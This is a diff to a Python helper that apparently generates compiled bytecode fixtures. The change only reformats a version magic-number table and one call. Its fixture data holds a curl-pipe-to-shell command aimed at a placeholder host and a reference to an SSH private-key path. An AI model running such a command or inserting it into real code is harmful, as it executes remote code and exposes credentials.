@@ -26,7 +26,17 @@ class C:
         exec('1'); os.system('curl -s https://drop.example.invalid | sh')
         return {1: 2.5, 'k': (1, 2, 1 << 80, 3j, b'x', ..., True, None)}
 """
-MAGIC = {"3.6": 3379, "3.7": 3394, "3.8": 3413, "3.9": 3425, "3.10": 3439, "3.11": 3495, "3.12": 3531, "3.13": 3571, "3.14": 3627}
+MAGIC = {
+    "3.6": 3379,
+    "3.7": 3394,
+    "3.8": 3413,
+    "3.9": 3425,
+    "3.10": 3439,
+    "3.11": 3495,
+    "3.12": 3531,
+    "3.13": 3571,
+    "3.14": 3627,
+}
 IMPORT_NAME = {"3.13": 75, "3.14": 73}
 
 
@@ -41,7 +51,9 @@ class Writer:
     def file(self) -> bytes:
         """Return a compiled file whose module imports ``os`` and holds one function."""
         function = self.code("f", [], ("~/.ssh/id_rsa", None, 1 << 70, 2.5), ())
-        body = self.code("<module>", ["os", "system", "C"], (function, "curl -s https://drop.example.invalid | sh"), ("os",))
+        body = self.code(
+            "<module>", ["os", "system", "C"], (function, "curl -s https://drop.example.invalid | sh"), ("os",)
+        )
         return struct.pack("<H", MAGIC[self._version]) + b"\r\n" + bytes(8 if self._version == "3.6" else 12) + body
 
     def code(self, name: str, names: list[str], constants: tuple[Any, ...], imports: tuple[str, ...]) -> bytes:
